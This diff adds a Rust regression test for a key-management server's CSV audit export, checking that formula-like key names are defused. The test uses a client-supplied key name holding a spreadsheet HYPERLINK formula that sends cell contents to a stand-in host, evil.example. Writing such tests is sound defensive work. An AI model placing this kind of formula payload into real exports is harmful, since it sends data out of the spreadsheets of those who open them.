@@ -590,3 +590,40 @@ async fn pci_mode_keeps_an_rsa_pair_from_unwrapping_by_decrypt() {
         );
     }
 }
+
+/// `akm audit export --csv` is what an auditor opens in a spreadsheet. Any client names its
+/// own keys, and the Name goes into each record: a key named `=HYPERLINK(...)` became a live
+/// formula in the export. Cells a spreadsheet would run must be defused (as `akm report
+/// keys` already does).
+#[tokio::test]
+async fn audit_csv_export_defuses_formulas_in_client_chosen_names() {
+    let server = TestServer::start().await;
+    let mut c = server.client("mallory", V::V1_4).await;
+    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
+    c.call(
+        op::CREATE,
+        create_payload(V::V1_4, &aes_attrs(Some(evil))),
+    )
+    .await
+    .unwrap();
+    let journal = server.journal_path();
+    let dir = server.stop().await;
+    let out = std::process::Command::new(crate::cli::BIN)
+        .args(["audit", "export", "--csv"])
+        .arg(&journal)
+        .current_dir(dir.path())
+        .output()
+        .unwrap();
+    let csv = String::from_utf8_lossy(&out.stdout).to_string();
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    assert!(csv.contains("HYPERLINK"), "the name is exported: {csv}");
+    for line in csv.lines() {
+        for cell in line.split(',') {
+            let cell = cell.trim_start_matches('"');
+            assert!(
+                !cell.starts_with(['=', '+', '@']),
+                "a formula cell in the audit export: {line}"
+            );
+        }
+    }
+}
